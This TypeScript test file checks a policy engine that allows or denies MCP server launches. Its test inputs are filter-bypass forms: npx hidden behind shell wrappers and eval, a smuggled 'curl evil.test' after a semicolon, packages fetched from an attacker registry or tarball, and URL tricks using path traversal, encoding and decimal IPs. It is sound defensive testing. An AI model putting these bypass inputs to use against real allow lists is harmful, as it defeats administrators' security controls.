import { describe, expect, it } from 'vitest'
import type { ServerPattern } from '../../shared/domain/policy'
import type { Launch } from '../../shared/domain/server'
import { forbidsServer } from './decideServer'
import type { PolicySheet } from './policySheet'
import type { Places } from './serverPatterns'

const stdio = (line: string, env: Record<string, string> = {}): Launch => {
  const [command = '', ...args] = line.split('|')
  return { kind: 'stdio', command, args, env }
}
const http = (url: string): Launch => ({ kind: 'http', url, headers: {}, transport: 'auto' })
const launchOf = (text: string): Launch => (/^https?:/.test(text) ? http(text) : stdio(text))
const sheet = (servers: PolicySheet['servers']): PolicySheet => ({ name: 'Atlas IT', servers })
const verdict = (servers: PolicySheet['servers'], launch: Launch, places?: Places) =>
  forbidsServer({ sheets: [sheet(servers)] }, { id: 'x', launch }, places)

describe('a deny list', () => {
  it.each([
    'npx|x',
    '/usr/bin/npx|x',
    'NPX.CMD|x',
    'env|npx|x',
    'env|-S|npx -y x',
    'sh|-c|npx x',
    'bash|-lc|true && npx x',
    'nice|-n|1|env|A=1|npx|x',
    'sh|-c|$(echo npx) x',
    'sh|-c|x=$(npx y)',
    'node|/usr/lib/node_modules/npm/bin/npx-cli.js|x',
    'node|-e|spawn("npx")',
    'xargs|npx',
    'powershell|-Command|npx x',
    'sh|-ce|npx x',
    'sh|-c|-e|npx x',
    'sh|-o|errexit|-c|npx x',
    'sh|-c|eval npx x',
    'sh|-c|if true; then npx x; fi',
    'env|a.b=1|npx|x',
    'sudo|A=1|npx|x',
    'nice|-n|5|--|npx|x',
    'node|-pe|spawn("npx")',
    'tcsh|-c|npx x',
  ])('keeps npx out of %s', (line) => {
    expect(verdict({ deny: [{ command: 'npx' }] }, launchOf(line))).toMatchObject({
      reason: expect.stringMatching(/^policy\.denied(Inside)?$/),
      params: { by: 'Atlas IT', what: 'npx' },
    })
  })

  it.each<readonly [ServerPattern, string]>([
    [{ npm: '@evil/*' }, 'npx|-y|@evil/x'],
    [{ npm: '@evil/*' }, 'npx|good@npm:@evil/x'],
    [{ npm: '@evil/*' }, 'npx|--new-option|@evil/x'],
    [{ pypi: 'Evil_Server' }, 'uvx|evil-server==1.0'],
    [{ image: 'evil/*' }, 'docker|run|-i|docker.io/evil/x:latest'],
    [{ url: 'https://*.evil.test' }, 'https://a.b.EVIL.test./mcp'],
    [{ url: 'https://evil.test' }, 'https://evil.test:8443/'],
    [{ url: 'https://evil.test/mcp/*' }, 'https://evil.test/x/../mcp/y'],
    [{ url: 'https://evil.test/mcp/*' }, 'https://evil.test/%6dcp/y'],
    [{ url: 'https://*.bücher.test' }, 'https://a.bücher.test/'],
    [{ url: 'https://evil.test/ä/*' }, 'https://evil.test/ä/x'],
    [{ url: 'http://[0:0::1]' }, 'http://[::1]/'],
    [{ url: 'http://127.0.0.1' }, 'http://2130706433/'],
    [{ command: '/usr/bin/tool' }, '/usr/bin/../bin/tool'],
  ])('%j forbids %s', (pattern, line) => {
    expect(verdict({ deny: [pattern] }, launchOf(line))).toBeDefined()
  })

  it.each<readonly [ServerPattern, string]>([
    [{ command: 'npx' }, 'node|server.js|npx'],
    [{ command: 'npx' }, '/home/npx/server'],
    [{ url: 'https://evil.test' }, 'https://evil.test.example/mcp'],
    [{ url: 'https://*.evil.test' }, 'https://notevil.test/mcp'],
    [{ npm: '@evil/*' }, 'uvx|evil'],
  ])('%j has nothing to say about %s', (pattern, line) => {
    expect(verdict({ deny: [pattern] }, launchOf(line))).toBeUndefined()
  })

  it('finds a forbidden program behind a link, once somebody has looked', () => {
    const places = new Map([['safe', ['/home/dana/bin/safe', '/usr/lib/npm/bin/npx-cli.js']]])
    expect([
      verdict({ deny: [{ command: 'npx' }] }, stdio('safe|x')),
      verdict({ deny: [{ command: 'npx' }] }, stdio('safe|x'), places),
    ]).toMatchObject([undefined, { params: { what: 'npx' } }])
  })

  it('beats the allow list beside it', () => {
    expect(verdict({ allow: [{ npm: '*' }], deny: [{ npm: 'x' }] }, stdio('npx|x'))).toMatchObject({
      reason: 'policy.denied',
      params: { by: 'Atlas IT', what: { id: 'policy.pattern.npm', params: { name: 'x' } } },
    })
  })
})

describe('an allow list', () => {
  const allow: readonly ServerPattern[] = [
    { npm: '@atlas/*' },
    { image: 'ghcr.io/atlas/*' },
    { url: 'https://*.atlas.example/*' },
    { command: '/opt/atlas/server' },
  ]

  it.each([
    'npx|-y|@atlas/files|/srv',
    'env|A=1|npx|@atlas/files',
    'sh|-c|npx @atlas/a | npx @atlas/b',
    'docker|run|-i|--rm|ghcr.io/atlas/x:2',
    'https://mcp.atlas.example/team',
  ])('lets %s in', (line) => {
    expect(verdict({ allow: [...allow] }, launchOf(line), new Map())).toBeUndefined()
  })

  it.each([
    'npx|-y|@other/files',
    'npx|-p|@atlas/a|-p|evil|a',
    'npx|@atlas/a@https://evil.test/x.tgz',
    'npx|--registry=https://evil.test|@atlas/a',
    'sh|-c|npx @atlas/a; curl evil.test',
    'docker|run|--entrypoint|sh|ghcr.io/other/x',
    'npx|-p|@atlas/a|sh|-c|anything',
    'https://mcp.atlas.example.evil.test/team',
    'http://mcp.atlas.example/team',
    'https://mcp.atlas.example:8443/team',
    'sh|-c|$(npx @atlas/a)',
    '/opt/other/server',
    'npx|@atlas/a@.',
    'npm|exec|@atlas/a|--registry=https://evil.test',
    './npx|@atlas/a',
    '/tmp/evil/npx|@atlas/a',
    '/tmp/evil/env|npx|@atlas/a',
    'node|npx.js|@atlas/a',
    'sh|npx|@atlas/a',
    'node|run|/usr/lib/npm/npx-cli.js|@atlas/a',
    'npx2|@atlas/a',
    'sh|-c|cd /tmp; npx @atlas/a; ./server',
  ])('keeps %s out', (line) => {
    expect(verdict({ allow: [...allow] }, launchOf(line), new Map())).toMatchObject({ code: 'POLICY', params: { by: 'Atlas IT' } })
  })

  it('says so where Parley cannot tell what runs', () => {
    expect(verdict({ allow: [...allow] }, stdio('npx|-c|x'))).toMatchObject({
      reason: 'policy.unclear',
      params: { by: 'Atlas IT', command: 'npx -c x' },
    })
    expect(verdict({ allow: [...allow] }, stdio('npx|@atlas/a', { NODE_OPTIONS: '--import=x' }))).toMatchObject({
      reason: 'policy.unclear',
    })
  })

  it('takes a whole path only where the program really is found', () => {
    const at = (...paths: string[]) => new Map([['server', paths]])
    const judge = (places?: Places) => verdict({ allow: [...allow] }, stdio('server'), places) === undefined
    expect([judge(), judge(at('/opt/atlas/server')), judge(at('/home/dana/server')), judge(at())]).toEqual([true, true, false, false])
    // Through a link, `..` leads from where the link leads to.
    expect(judge(at('/opt/link/../atlas/server', '/home/dana/server'))).toBe(false)
  })

  it('takes a runner that is written with its folder only where its name finds it too', () => {
    const real = ['/usr/bin/npx', '/usr/lib/npm/npx-cli.js']
    const places = new Map([
      ['npx', real],
      ['/usr/bin/npx', real],
      ['/usr/lib/npm/npx-cli.js', ['/usr/lib/npm/npx-cli.js']],
      ['./npx.js', ['/tmp/npx.js']],
      ['/link/../bin/npx', ['/link/../bin/npx', '/home/dana/npx']],
      ['C:\\nodejs\\npx.CMD', ['C:\\nodejs\\npx.CMD']],
    ])
    const judge = (line: string, found: Places = places) => verdict({ allow: [...allow] }, stdio(line), found) === undefined
    expect([
      judge('/usr/bin/npx|@atlas/a'),
      judge('node|/usr/lib/npm/npx-cli.js|@atlas/a'),
      judge('C:\\nodejs\\npx.CMD|@atlas/a', new Map([...places, ['npx', ['C:\\nodejs\\npx']]])),
      judge('node|npx.js|@atlas/a'),
      judge('/link/../bin/npx|@atlas/a'),
    ]).toEqual([true, true, true, false, false])
  })

  it('that is empty lets nothing in, and users may have no servers where adding is forbidden', () => {
    expect([verdict({ allow: [] }, stdio('x'), new Map()), verdict({ add: false }, http('https://a.test'))]).toMatchObject([
      { reason: 'policy.notListed' },
      { reason: 'policy.ownServers', params: { by: 'Atlas IT' } },
    ])
  })
})

it('what a policy defines itself it does not have to allow beside; another policy does', () => {
  const entry = { command: 'npx', args: ['x'] }
  const own: PolicySheet = { name: 'A', mcpServers: { x: entry }, servers: { add: false } }
  const other: PolicySheet = { name: 'B', servers: { allow: [] } }
  const server = { id: 'x', launch: stdio('npx|x'), entry }
  expect([
    forbidsServer({ sheets: [own] }, server),
    forbidsServer({ sheets: [own] }, { ...server, entry: undefined }),
    forbidsServer({ sheets: [own, other] }, server),
  ]).toMatchObject([undefined, { reason: 'policy.ownServers', params: { by: 'A' } }, { params: { by: 'B' } }])
})
